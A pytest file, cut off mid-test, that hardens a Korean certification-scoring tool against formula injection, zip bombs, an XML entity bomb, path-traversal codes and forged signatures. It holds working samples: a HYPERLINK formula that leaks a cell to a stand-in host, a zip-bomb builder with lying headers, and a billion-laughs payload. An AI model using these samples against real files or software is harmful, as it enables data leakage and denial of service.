"""The attacks of issue 10, each through the command line as a user or an attacker would try it.

Every refusal is an ``error:`` line and exit 1, and the workspace is exactly as before (every table and every
file compared). Figures for the workbook bombs (memory, time) are in the benchmark ``benchmarks/hostile.py``.
"""

from __future__ import annotations

import io
import json
import shutil
import sqlite3
import struct
import subprocess
import tracemalloc
import unicodedata
import zipfile
import zlib
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from smartcert_desktop.domain.edits import Edit
from smartcert_desktop.exchange import envelope, xlsx_guard
from smartcert_desktop.exchange import keys as keymod
from smartcert_desktop.exchange.canonical import canonical_json_bytes
from smartcert_desktop.exchange.xlsx_common import put, save_workbook
from smartcert_desktop.services import evaluator as ev_svc
from smartcert_desktop.services.scoring import apply_edit
from smartcert_desktop.services.workspace import open_workspace
from smartcert_desktop.store.queries import framework_of

from .conftest import PASS, PDF, Base, error_lines, run

Capsys = pytest.CaptureFixture[str]


# ------------------------------------------------------------------------------------------------ helpers
def members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {name: z.read(name) for name in z.namelist()}


def rezip(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def sheet_xml(rows: bytes) -> bytes:
    return (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheetData>' + rows + b"</sheetData></worksheet>")


def inline_row(number: int, *texts: str) -> bytes:
    cells = b"".join(
        b'<c r="%s%d" t="inlineStr"><is><t>%s</t></is></c>' % (chr(65 + i).encode(), number, t.encode())
        for i, t in enumerate(texts))
    return b'<row r="%d">%s</row>' % (number, cells)


def applicants_workbook(base: Base, path: Path, applicants_rows: bytes | None = None,
                        reported_rows: bytes | None = None) -> Path:
    """The round's applicants workbook with the Applicants (sheet1) or Reported (sheet2) rows replaced."""
    parts = members(base.root / "applicants.xlsx")
    if applicants_rows is not None:
        parts["xl/worksheets/sheet1.xml"] = sheet_xml(applicants_rows)
    if reported_rows is not None:
        parts["xl/worksheets/sheet2.xml"] = sheet_xml(reported_rows)
    return rezip(path, parts)


APPLICANTS_HEADER = inline_row(1, "code", "name_ko", "name_en", "province", "population")
REPORTED_HEADER = inline_row(1, "applicant_code", "indicator_code", "value", "evidence")


def bomb(base: Base, path: Path, inflated: int, *, declared: int | None = None) -> Path:
    """The applicants workbook whose Applicants sheet inflates to ``inflated`` bytes (white space inside
    the sheet's XML). With ``declared`` the ZIP headers claim that size instead: a header that lies."""
    parts = members(base.root / "applicants.xlsx")
    head, tail = sheet_xml(APPLICANTS_HEADER).split(b"</sheetData>")
    filler = inflated - len(head) - len(tail) - len(b"</sheetData>")
    # One deflate stream: the head, the filler, the tail (a stored header and raw deflate data by hand).
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = compressor.compress(head)
    crc = zlib.crc32(head)
    block = b" " * (1 << 20)
    left = filler
    while left:
        piece = block[:left]
        body += compressor.compress(piece)
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    end = b"</sheetData>" + tail
    body += compressor.compress(end) + compressor.flush()
    crc = zlib.crc32(end, crc)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            if name != "xl/worksheets/sheet1.xml":
                z.writestr(name, data)
    # Append the big member by hand: local header, data, then rebuild the central directory with zipfile.
    data = buffer.getvalue()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        infos = z.infolist()
        contents = {i.filename: z.read(i.filename) for i in infos}
    out = io.BytesIO()
    entries = []
    for info in infos:
        compressed = zlib.compressobj(6, zlib.DEFLATED, -15)
        raw = compressed.compress(contents[info.filename]) + compressed.flush()
        entries.append((info.filename.encode(), raw, zlib.crc32(contents[info.filename]),
                        len(contents[info.filename])))
    entries.append((b"xl/worksheets/sheet1.xml", body, crc, inflated))
    central = b""
    for name, raw, crc32, size in entries:
        claimed = size if declared is None or name != b"xl/worksheets/sheet1.xml" else declared
        offset = out.tell()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc32, len(raw), claimed,
                              len(name), 0) + name + raw)
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc32, len(raw), claimed,
                               len(name), 0, 0, 0, 0, 0, offset) + name
    start = out.tell()
    out.write(central)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), start, 0))
    path.write_bytes(out.getvalue())
    return path


def edit(workspace: Path, applicant: str, indicator: str | None, field: str, new: object) -> None:
    """An edit as the desktop program makes it (text stored exactly as typed)."""
    handle = open_workspace(workspace, "evaluator")
    try:
        with handle.session() as s:
            program = ev_svc.current_program(s)
            apply_edit(s, framework_of(s, program), program.id, "E01", Edit(applicant, indicator, field, None, new))
    finally:
        handle.close()


def stored_comments(workspace: Path) -> dict[tuple[str, str], str]:
    connection = sqlite3.connect(workspace / "evaluator.db")
    try:
        rows = connection.execute(
            "SELECT s.applicant_code, e.indicator_code, e.comment FROM score_entry e "
            "JOIN score_sheet s ON e.sheet_id = s.id").fetchall()
    finally:
        connection.close()
    return {(a, i): c for a, i, c in rows}


def formula_cells(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)  # not data_only: formulas as formulas
    return [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


# ---------------------------------------------------------------------------------- 1. text stays text
COMMENTS = {
    ("P1", "S1"): "=== 현장 확인 필요 ===",
    ("P1", "S2"): "=1+1",
    ("P1", "Q1"): '=HYPERLINK("http://example.invalid/?leak="&B3,"click")',
    ("P1", "Q2"): "+82 10 1234 5678",
    ("P1", "Q3"): "-5점 감점 요인",
    ("P1", "Q4"): "@SUM(A1:A9)",
    ("P1", "Q5"): "\t들여쓴 의견",
    ("P2", "S1"): "\r첫 줄이 비어 있음",
    ("P2", "S2"): unicodedata.normalize("NFD", "현장 확인 완료 (한글 자모로 저장된 의견)"),
    ("P2", "Q1"): "#N/A",
    ("P2", "Q2"): "  앞뒤 공백  ",
    ("P2", "Q3"): "첫 줄\r\n둘째 줄",
}


def test_a_score_sheet_exported_and_imported_unchanged_changes_nothing(base: Base, capsys: Capsys) -> None:
    e01 = base.evaluator("E01")
    for (applicant, indicator), comment in COMMENTS.items():
        edit(e01, applicant, indicator, "comment", comment)
    before = stored_comments(e01)
    sheet = base.root / "sheet.xlsx"
    code, _out, err = run(capsys, "evaluator", "export-sheet", e01, "--out", sheet)
    assert code == 0, err
    assert formula_cells(sheet) == []
    wb = openpyxl.load_workbook(sheet)
    ws = wb["Scores"]
    cells = {(r[0].value, r[1].value): r[7] for r in ws.iter_rows(min_row=2)}
    for key, comment in COMMENTS.items():
        assert cells[key].data_type == "s", key
        # XML stores a carriage return as a line break; everything else comes back as it was written.
        assert cells[key].value == comment.replace("\r\n", "\n").replace("\r", "\n"), key
    code, out, err = run(capsys, "evaluator", "import-sheet", e01, sheet)
    assert code == 0, err
    assert out.strip().endswith("0 applicant sheet(s) changed")
    assert stored_comments(e01) == before


def test_an_evaluator_types_a_comment_starting_with_equals_in_a_spreadsheet(base: Base, capsys: Capsys) -> None:
    """The comment a spreadsheet saves as text ('=== ...' typed with a quote) is kept, and stays text."""
    e01 = base.evaluator("E01")
    sheet = base.root / "sheet.xlsx"
    run(capsys, "evaluator", "export-sheet", e01, "--out", sheet)
    wb = openpyxl.load_workbook(sheet)
    ws = wb["Scores"]
    row = next(r for r in ws.iter_rows(min_row=2) if (r[0].value, r[1].value) == ("P1", "S1"))
    row[5].value = "B"
    put(ws, row[0].row, 8, "=== 현장 확인 필요 ===")
    save_workbook(wb, sheet)
    code, out, err = run(capsys, "evaluator", "import-sheet", e01, sheet)
    assert code == 0 and "1 applicant sheet(s) changed" in out, err
    again = base.root / "again.xlsx"
    run(capsys, "evaluator", "export-sheet", e01, "--out", again)
    code, out, err = run(capsys, "evaluator", "import-sheet", e01, again)
    assert code == 0 and out.strip().endswith("0 applicant sheet(s) changed"), err
    assert stored_comments(e01)[("P1", "S1")] == "=== 현장 확인 필요 ==="


HOSTILE_NAME = '=HYPERLINK("http://example.invalid/?leak="&B3,"서울특별시")'


def _results_workbook_with_hostile_text(base: Base, capsys: Capsys) -> Path:
    """A round where an applicant's name and an evaluator's comment look like formulas: results --xlsx."""
    wb = openpyxl.load_workbook(base.root / "applicants.xlsx")
    put(wb["Applicants"], 2, 2, HOSTILE_NAME)
    hostile = base.root / "hostile-applicants.xlsx"
    save_workbook(wb, hostile)
    code, _out, err = run(capsys, "program", "import-applicants", base.program, hostile)
    assert code == 0, err
    e01 = base.evaluator("E01")
    edit(e01, "P1", "Q1", "verified_value", "90")
    edit(e01, "P1", "Q1", "comment", "=1+1")
    bundle = base.root / "E01.scb"
    code, _out, err = run(capsys, "evaluator", "submit", e01, "--out", bundle, "--allow-incomplete")
    assert code == 0, err
    code, out, err = run(capsys, "merge", base.program, bundle)
    assert code == 0 and "accepted" in out, err
    results = base.root / "results.xlsx"
    code, _out, err = run(capsys, "results", base.program, "--xlsx", results)
    assert code == 0, err
    return results


def test_the_results_workbook_holds_text_never_a_formula(base: Base, capsys: Capsys) -> None:
    results = _results_workbook_with_hostile_text(base, capsys)
    assert formula_cells(results) == []
    wb = openpyxl.load_workbook(results)
    texts = {c.value: c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert any(HOSTILE_NAME in t for t in texts), "the name is in the workbook, as text"
    assert texts["=1+1"].data_type == "s"
    legend = next(ws for ws in wb if ws["B2"].value and str(ws["B2"].value).startswith("= 집계에서 제외된 점수"))
    assert legend["B2"].data_type == "s"


@pytest.mark.slow
def test_libreoffice_shows_the_text_as_written(base: Base, capsys: Capsys, tmp_path: Path) -> None:
    """What a person sees: LibreOffice renders the results workbook; no formula result, no Err:509."""
    soffice, pdftotext = shutil.which("soffice"), shutil.which("pdftotext")
    if soffice is None or pdftotext is None:
        pytest.skip("LibreOffice (libreoffice-calc-nogui) and poppler-utils are needed to render the workbook")
    results = _results_workbook_with_hostile_text(base, capsys)
    out = tmp_path / "pdf"
    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path / 'lo'}", "--convert-to",
                    "pdf", "--outdir", str(out), str(results)], check=True, capture_output=True, timeout=180)
    text = subprocess.run([pdftotext, "-layout", str(out / "results.pdf"), "-"], check=True,
                          capture_output=True, text=True).stdout
    assert "=1+1" in text and "Err:" not in text and "#NAME" not in text
    assert "= 집계에서 제외된 점수" in text
    assert "=HYPERLINK(" in text


def test_a_formula_without_a_saved_value_is_refused_naming_the_cell(base: Base, capsys: Capsys, unchanged) -> None:
    wb = openpyxl.load_workbook(base.root / "applicants.xlsx")
    wb["Reported"]["C2"] = "=40+45"  # a real formula, as a script writes it: no value saved with it
    path = base.root / "formula.xlsx"
    wb.save(path)
    with unchanged(base.program):
        code, _out, err = run(capsys, "program", "import-applicants", base.program, path)
    assert code == 1
    lines = error_lines(err)
    assert any("sheet Reported, row 2, column C (value)" in line and "cell C2 holds a formula without a saved "
               "value" in line for line in lines), lines


def test_a_formula_counts_as_the_value_the_spreadsheet_saved(base: Base, capsys: Capsys) -> None:
    wb = openpyxl.load_workbook(base.root / "applicants.xlsx")
    path = base.root / "saved.xlsx"
    wb.save(path)
    parts = members(path)
    sheet = parts["xl/worksheets/sheet2.xml"].decode()
    # What Excel writes for =40+50 once computed: the formula and its saved value 90.
    row2 = sheet[sheet.index('<row r="2"'):sheet.index("</row>", sheet.index('<row r="2"'))]
    cell = row2[row2.index('<c r="C2"'):row2.index("</c>", row2.index('<c r="C2"')) + 4]
    parts["xl/worksheets/sheet2.xml"] = sheet.replace(cell, '<c r="C2"><f>40+50</f><v>90</v></c>').encode()
    rezip(path, parts)
    code, _out, err = run(capsys, "program", "import-applicants", base.program, path)
    assert code == 0, err
    connection = sqlite3.connect(base.program / "program.db")
    value = connection.execute("SELECT value FROM reported_value WHERE applicant_code = 'P1' "
                               "AND indicator_code = 'Q1'").fetchone()
    connection.close()
    assert value == ("90",)


# ------------------------------------------------------------------------------------ 2. bounded numbers
@pytest.mark.parametrize(("value", "says"), [
    ("1E+400000000", "is too large: its absolute value must be below 10^15"),
    ("1E-400000000", "has more than 15 digits after the decimal point"),
    ("1000000000000000", "is too large: its absolute value must be below 10^15"),
    ("0.1234567890123456", "has 16 significant digits; at most 15 are allowed"),
])
def test_a_huge_reported_value_is_refused_at_import(base: Base, capsys: Capsys, unchanged, value: str,
                                                    says: str) -> None:
    path = applicants_workbook(base, base.root / "huge.xlsx",
                               reported_rows=REPORTED_HEADER + inline_row(2, "P1", "Q3", value, "p. 1"))
    with unchanged(base.program):
        code, _out, err = run(capsys, "program", "import-applicants", base.program, path)
    assert code == 1
    lines = error_lines(err)
    assert lines == [f"error: huge.xlsx, sheet Reported, row 2, column C (value): Q3 (MINMAX): value '{value}' "
                     f"{says}"]


def test_a_huge_accepted_correction_is_refused(base: Base, capsys: Capsys, unchanged) -> None:
    with unchanged(base.program):
        code, _out, err = run(capsys, "program", "accept-correction", base.program, "P1", "Q2", "1E+400000000",
                              "--reason", "보정")
    assert code == 1
    assert error_lines(err) == ["error: P1 Q2: value '1E+400000000' is too large: its absolute value must be "
                                "below 10^15"]


def test_a_huge_value_already_in_the_store_is_flagged_not_computed(base: Base, capsys: Capsys) -> None:
    """A database written before the bounds existed: the rule refuses the value at once (no huge fraction)."""
    connection = sqlite3.connect(base.program / "program.db")
    connection.execute("UPDATE reported_value SET value = '1E+400000000' WHERE applicant_code = 'P1' "
                       "AND indicator_code IN ('Q2', 'Q3')")
    connection.commit()
    connection.close()
    out_json = base.root / "results.json"
    code, _out, err = run(capsys, "results", base.program, "--json", out_json)
    assert code == 0, err
    p1 = next(a for a in json.loads(out_json.read_text("utf-8"))["applicants"] if a["code"] == "P1")
    assert p1["indicators"]["Q2"] == "0.00" and p1["indicators"]["Q3"] == "0.00"
    assert {f["indicator"] for f in p1["flags"] if f["kind"] == "invalid_value"} == {"Q2", "Q3"}


def test_a_key_file_with_costly_kdf_parameters_is_refused_before_deriving(base: Base, capsys: Capsys,
                                                                          unchanged) -> None:
    e01 = base.evaluator("E01")
    key = e01 / "keys" / "evaluator.key"
    document = json.loads(key.read_bytes())
    document["kdf"].update(n=2**20, r=16, p=4)
    key.write_bytes(canonical_json_bytes(document) + b"\n")
    with unchanged(e01):
        code, _out, err = run(capsys, "evaluator", "submit", e01, "--out", base.root / "x.scb", "--allow-incomplete")
    assert code == 1
    # The startup check reads the key file's structure when the workspace opens, before any passphrase.
    [line] = error_lines(err)
    assert line.startswith(f"error: the workspace {e01} is damaged: its key file keys/evaluator.key is damaged "
                           "(the key file is damaged or not from smartcert: its key derivation would need 2048 MiB "
                           "(N = 1048576, r = 16); at most 256 MiB are accepted). Nothing was written to it. "
                           f"Restore the latest backup: smartcert evaluator restore {e01} "), line
    assert not (base.root / "x.scb").exists()


# ------------------------------------------------------------------------------- 2. bounded workbooks
def test_a_workbook_larger_than_50_mb_is_refused_before_it_is_read(base: Base, capsys: Capsys, unchanged) -> None:
    path = base.root / "big.xlsx"
    with open(path, "wb") as handle:  # sparse: 60 MB that take no room, starting like a ZIP
        handle.write(b"PK\x03\x04")
        handle.truncate(60_000_000)
    tracemalloc.start()
    try:
        with unchanged(base.program):
            code, _out, err = run(capsys, "program", "import-applicants", base.program, path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert code == 1
    assert error_lines(err) == ["error: big.xlsx: the workbook is refused: it has 60,000,000 bytes, more than the "
                                "limit of 50 MB"]
    assert peak < 10_000_000  # the file was not read


def test_a_workbook_whose_parts_claim_to_inflate_beyond_200_mb_is_refused(base: Base, capsys: Capsys,
                                                                         unchanged) -> None:
    # 1 GB declared: refused from the declared sizes, before anything is inflated.
    path = bomb(base, base.root / "bomb.xlsx", 2_000_000, declared=1_000_000_000)
    with unchanged(base.program):
        code, _out, err = run(capsys, "program", "import-applicants", base.program, path)
    assert code == 1
    assert error_lines(err) == ["error: bomb.xlsx: the workbook is refused: its parts would inflate to 1,000 MB, "
                                "more than the limit of 200 MB"]


def test_a_workbook_that_lies_about_its_sizes_is_refused_while_it_inflates(base: Base, capsys: Capsys,
                                                                          unchanged) -> None:
    # The headers claim 1 KB; the data inflates to 210 MB: never inflated past what was declared.
    path = bomb(base, base.root / "liar.xlsx", 210_000_000, declared=1_000)
    assert path.stat().st_size < 1_000_000
    tracemalloc.start()
    try:
        with unchanged(base.program):
            code, _out, err = run(capsys, "program", "import-applicants", base.program, path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert code == 1
    assert error_lines(err) == ["error: liar.xlsx: the workbook is damaged (BadZipFile: Bad CRC-32 for file "
                                "'xl/worksheets/sheet1.xml')"]
    assert peak < 50_000_000


def test_a_million_rows_are_refused_at_row_100_002(base: Base, capsys: Capsys, unchanged) -> None:
    rows = REPORTED_HEADER + b"<row><c><v>1</v></c></row>" * 1_000_000
    path = applicants_workbook(base, base.root / "million.xlsx", reported_rows=rows)
    assert path.stat().st_size < 2_000_000
    with unchanged(base.program):
        code, _out, err = run(capsys, "program", "import-applicants", base.program, path)
    assert code == 1
    assert error_lines(err) == ["error: million.xlsx, sheet Reported: the workbook is refused: the sheet has more "
                                "than 100,000 rows below its header (the limit)"]


def test_the_row_limit_counts_the_rows_below_the_header(base: Base, capsys: Capsys,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """At the limit a sheet is read; one row more and it is refused (the limit lowered to 10 to be quick)."""
    monkeypatch.setattr(xlsx_guard, "MAX_ROWS", 10)
    monkeypatch.setattr(xlsx_guard, "MAX_ROW_NUMBER", 11)
    rows = b"".join(inline_row(n, "P1", "Q1", "85") for n in range(2, 12))
    at_limit = applicants_workbook(base, base.root / "ten.xlsx", reported_rows=REPORTED_HEADER + rows)
    code, _out, err = run(capsys, "program", "import-applicants", base.program, at_limit)
    assert code == 1 and "a second value for applicant P1, indicator Q1" in err  # read, then checked
    over = applicants_workbook(base, base.root / "eleven.xlsx",
                               reported_rows=REPORTED_HEADER + rows + inline_row(12, "P1", "Q1", "85"))
    code, _out, err = run(capsys, "program", "import-applicants", base.program, over)
    assert code == 1 and "more than 10 rows below its header" in err


def test_a_cell_of_100_million_characters_is_refused_naming_the_cell(base: Base, capsys: Capsys,
                                                                    unchanged) -> None:
    name = "A" * 100_000_000  # 100 MB of text, under the inflate limit: refused for the cell's length
    rows = APPLICANTS_HEADER + inline_row(2, "P1", name, "Ga City", "경기", "600000")
    path = applicants_workbook(base, base.root / "name.xlsx", applicants_rows=rows)
    tracemalloc.start()
    try:
        with unchanged(base.program):
            code, _out, err = run(capsys, "program", "import-applicants", base.program, path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert code == 1
    assert error_lines(err) == ["error: name.xlsx, sheet Applicants: the workbook is refused: cell B2: the cell "
                                "holds 100,000,000 characters; a cell holds at most 32,767"]
    assert peak < 50_000_000


def test_a_long_name_is_refused_naming_cell_and_length(base: Base, capsys: Capsys, unchanged) -> None:
    rows = APPLICANTS_HEADER + inline_row(2, "P1", "가" * 201, "Ga City", "경기", "600000")
    path = applicants_workbook(base, base.root / "long.xlsx", applicants_rows=rows)
    with unchanged(base.program):
        code, _out, err = run(capsys, "program", "import-applicants", base.program, path)
    assert code == 1
    assert error_lines(err) == ["error: long.xlsx, sheet Applicants, row 2, column B (name_ko): cell B2: name_ko is "
                                "201 characters long; at most 200 are allowed"]


def test_a_population_out_of_range_is_refused(base: Base, capsys: Capsys, unchanged) -> None:
    rows = APPLICANTS_HEADER + inline_row(2, "P1", "가시", "Ga City", "경기", "0") + inline_row(
        3, "P2", "나군", "Na", "강원", "1000000001")
    path = applicants_workbook(base, base.root / "pop.xlsx", applicants_rows=rows)
    with unchanged(base.program):
        code, _out, err = run(capsys, "program", "import-applicants", base.program, path)
    assert code == 1
    assert error_lines(err) == [
        "error: pop.xlsx, sheet Applicants, row 2, column E (population): population must be a whole number of at "
        "least 1, not 0",
        "error: pop.xlsx, sheet Applicants, row 3, column E (population): population must be a whole number of at "
        "most 1,000,000,000, not 1,000,000,001"]


def test_an_entity_bomb_is_refused(base: Base, capsys: Capsys, unchanged) -> None:
    parts = members(base.root / "applicants.xlsx")
    laughs = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                         for i in range(1, 10))
              + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
              + b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>')
    parts["xl/worksheets/sheet1.xml"] = laughs
    path = rezip(base.root / "lol.xlsx", parts)
    with unchanged(base.program):
        code, _out, err = run(capsys, "program", "import-applicants", base.program, path)
    assert code == 1
    assert error_lines(err) == ["error: lol.xlsx: the workbook is refused: an XML part declares a document type "
                                "(entities are not allowed in a workbook)"]


@pytest.mark.slow
def test_the_bombs_of_the_report_at_full_size(base: Base, capsys: Capsys, unchanged) -> None:
    """A 1 MB file inflating to 1 GB (headers honest, then lying), a 1 GB cell: refused with little memory."""
    for name, declared in (("gig.xlsx", None), ("gig-liar.xlsx", 1_000)):
        path = bomb(base, base.root / name, 1_000_000_000, declared=declared)
        assert path.stat().st_size < 2_000_000
        tracemalloc.start()
        try:
            with unchanged(base.program):
                code, _out, err = run(capsys, "program", "import-applicants", base.program, path)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert code == 1 and len(error_lines(err)) == 1, err
        assert peak < 50_000_000


# ------------------------------------------------------------------------------------- 3. codes and names
@pytest.mark.parametrize(("code", "says"), [
    ("../../etc", "holds U+002E FULL STOP at position 1"),
    ("CON", "is a reserved device name on Windows (CON)"),
    ("Ｌ０１", "holds U+FF2C FULLWIDTH LATIN CAPITAL LETTER L at position 1"),
    ("L01\u200b", "holds U+200B ZERO WIDTH SPACE at position 4"),
    (unicodedata.normalize("NFD", "가01"), "holds U+1100 HANGUL CHOSEONG KIYEOK at position 1"),
    ("가01", "holds U+AC00 HANGUL SYLLABLE GA at position 1"),
    ("A" * 33, "is 33 characters long; a code is at most 32"),
])
def test_applicant_codes_are_checked(base: Base, capsys: Capsys, unchanged, code: str, says: str) -> None:
    rows = APPLICANTS_HEADER + inline_row(2, code, "가시", "Ga", "경기", "600000")
    path = applicants_workbook(base, base.root / "codes.xlsx", applicants_rows=rows)
    with unchanged(base.program):
        status, _out, err = run(capsys, "program", "import-applicants", base.program, path)
    assert status == 1
    lines = error_lines(err)
    assert lines[0].startswith("error: codes.xlsx, sheet Applicants, row 2, column A (code): cell A2: applicant "
                               "code "), lines
    assert says in lines[0], lines


def test_codes_that_differ_only_in_case_are_refused(base: Base, capsys: Capsys, unchanged) -> None:
    rows = APPLICANTS_HEADER + inline_row(2, "p1", "가시", "Ga", "경기", "600000")
    path = applicants_workbook(base, base.root / "case.xlsx", applicants_rows=rows)
    with unchanged(base.program):
        status, _out, err = run(capsys, "program", "import-applicants", base.program, path)
    assert status == 1
    assert error_lines(err)[0] == ("error: case.xlsx, sheet Applicants, row 2, column A (code): applicant code p1 "
                                   "differs from P1, already in the program, only in case; use the same spelling "
                                   "or another code")


@pytest.mark.parametrize(("name", "says"), [
    ("서울\u200b특별시", "holds the invisible character U+200B ZERO WIDTH SPACE at position 3"),
    ("서울\t시", "holds the control character U+0009 CHARACTER TABULATION at position 3"),
    ("\u3164", "holds the invisible character U+3164 HANGUL FILLER"),
    ("서울\u202e시", "holds the invisible character U+202E RIGHT-TO-LEFT OVERRIDE at position 3"),
])
def test_names_with_invisible_or_control_characters_are_refused(base: Base, capsys: Capsys, unchanged,
                                                                name: str, says: str) -> None:
    rows = APPLICANTS_HEADER + inline_row(2, "P1", name, "Ga", "경기", "600000")
    path = applicants_workbook(base, base.root / "names.xlsx", applicants_rows=rows)
    with unchanged(base.program):
        status, _out, err = run(capsys, "program", "import-applicants", base.program, path)
    assert status == 1
    assert error_lines(err) == [f"error: names.xlsx, sheet Applicants, row 2, column B (name_ko): cell B2: name_ko "
                                f"{says}; remove it"]


def test_names_are_stored_composed(base: Base, capsys: Capsys) -> None:
    decomposed = unicodedata.normalize("NFD", "가시")
    rows = APPLICANTS_HEADER + inline_row(2, "P1", decomposed, "Ga", "경기", "600000")
    path = applicants_workbook(base, base.root / "nfd.xlsx", applicants_rows=rows)
    status, _out, err = run(capsys, "program", "import-applicants", base.program, path)
    assert status == 0, err
    connection = sqlite3.connect(base.program / "program.db")
    stored = connection.execute("SELECT name_ko FROM applicant WHERE code = 'P1'").fetchone()
    connection.close()
    assert stored == ("가시",) and decomposed != "가시"


def test_a_package_with_a_bad_applicant_code_is_refused(base: Base, capsys: Capsys, unchanged) -> None:
    """Even signed by the program's key: the evaluator workspace checks every code it loads."""
    program = keymod.load_private_keys(base.program / "keys" / "program.key", PASS)
    e01 = keymod.load_private_keys(base.evaluator("E01") / "keys" / "evaluator.key", PASS)
    opened = envelope.open_package(base.package("E01").read_bytes(), e01)
    payload = json.loads(json.dumps(opened.payload))
    payload["applicants"][0]["code"] = "../../etc"
    payload["serial"] = opened.meta["serial"] + 1
    meta = dict(opened.meta, serial=payload["serial"])
    forged = base.root / "forged.scpkg"
    forged.write_bytes(envelope.seal_package(payload, opened.attachments, program, e01.public, **meta))
    with unchanged(base.evaluator("E01")):
        status, _out, err = run(capsys, "evaluator", "import", base.evaluator("E01"), forged)
    assert status == 1
    assert error_lines(err) == [f"error: {forged}, field applicants[0].code: '../../etc' holds U+002E FULL STOP at "
                                "position 1; a code is 1-32 ASCII letters, digits, - or _"]


def test_an_evaluator_id_with_a_zero_width_space_is_refused(base: Base, capsys: Capsys) -> None:
    status, _out, err = run(capsys, "evaluator", "init", base.root / "E9", "--id", "E09\u200b", "--name", "김")
    assert status == 1
    assert error_lines(err) == ["error: field evaluator id: 'E09\\u200b' holds U+200B ZERO WIDTH SPACE at "
                                "position 4; a code is 1-32 ASCII letters, digits, - or _"]
    assert not (base.root / "E9").exists()


# ------------------------------------------------------------------------------------------------ 4. verify
def _results(base: Base, capsys: Capsys) -> Path:
    out = base.root / "results.json"
    code, _out, err = run(capsys, "results", base.program, "--json", out)
    assert code == 0, err
    return out


def test_forged_results_signed_by_an_enrolled_evaluator_are_refused(base: Base, capsys: Capsys) -> None:
    results = _results(base, capsys)
    document = json.loads(results.read_text("utf-8"))
    for applicant in document["applicants"]:
        applicant["certified"], applicant["grade"] = True, 1
    forged = base.root / "forged.json"
    forged.write_text(json.dumps(document, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")
    e02 = keymod.load_private_keys(base.evaluator("E02") / "keys" / "evaluator.key", PASS)
    (base.root / "forged.json.sig").write_bytes(envelope.sign_detached(forged.read_bytes(), e02))
    program_key = keymod.read_key_file_info(base.program / "keys" / "program.key")
    code, out, err = run(capsys, "verify", forged, "--program", base.program)
    assert code == 1 and out == ""
    lines = error_lines(err)
    assert len(lines) == 1
    assert lines[0].startswith(f"error: {forged}: is signed by {e02.fingerprint}, but results (detached signature) "
                               f"must be signed by the program's key {program_key.fingerprint} of program 공격 시험")
    # Without --program the signature is valid, and the output says that nobody checked who signed it.
    code, out, err = run(capsys, "verify", forged)
    assert code == 0, err
    assert ("signer not checked against any program: anyone can make a key and sign a file; to check that the "
            "right key signed it: smartcert verify FILE --program PROGRAM_DIR") in out.splitlines()
    # The real results: the program's key.
    code, out, err = run(capsys, "verify", results, "--program", base.program)
    assert code == 0, err
    assert "signer is the program's key of program 공격 시험" in out and "intact: yes" in out


def test_a_bundle_is_trusted_only_with_the_key_enrolled_for_the_evaluator_it_names(base: Base,
                                                                                  capsys: Capsys) -> None:
    e01_dir = base.evaluator("E01")
    bundle = base.root / "E01.scb"
    code, _out, err = run(capsys, "evaluator", "submit", e01_dir, "--out", bundle, "--allow-incomplete")
    assert code == 0, err
    code, out, err = run(capsys, "verify", bundle, "--program", base.program)
    assert code == 0, err
    assert "signer is the key enrolled for evaluator E01 (평가위원 E01)" in out
    # E02 writes a bundle in E01's name: a valid signature, by the wrong (although enrolled) key.
    e02 = keymod.load_private_keys(base.evaluator("E02") / "keys" / "evaluator.key", PASS)
    program_public = keymod.read_key_file_info(base.program / "keys" / "program.key").public
    opened = envelope.peek(bundle.read_bytes())
    forged = base.root / "forged.scb"
    forged.write_bytes(envelope.seal_bundle({"sheets": []}, e02, program_public, evaluator_id="E01",
                                            program_id=opened.meta["program_id"], sequence=99))
    code, out, err = run(capsys, "verify", forged, "--program", base.program)
    assert code == 1 and out == ""
    e01_fp = keymod.read_key_file_info(e01_dir / "keys" / "evaluator.key").fingerprint
    assert error_lines(err)[0].startswith(f"error: {forged}: is signed by {e02.fingerprint}, but evaluator E01 is "
                                          f"enrolled in program 공격 시험")
    assert e01_fp in err


def test_an_enrolment_must_be_the_one_enrolled(base: Base, capsys: Capsys) -> None:
    code, out, err = run(capsys, "verify", base.evaluator("E01") / "enrollment.json", "--program", base.program)
    assert code == 0 and "signer is its own key, enrolled for evaluator E01" in out, err
    for eid, says in (("E03", "names evaluator E03, who is not enrolled in program 공격 시험"),
                      ("E01", "but evaluator E01 is enrolled in program 공격 시험 (")):
        other = base.root / f"other-{eid}"
        run(capsys, "evaluator", "init", other, "--id", eid, "--name", "다른 사람")
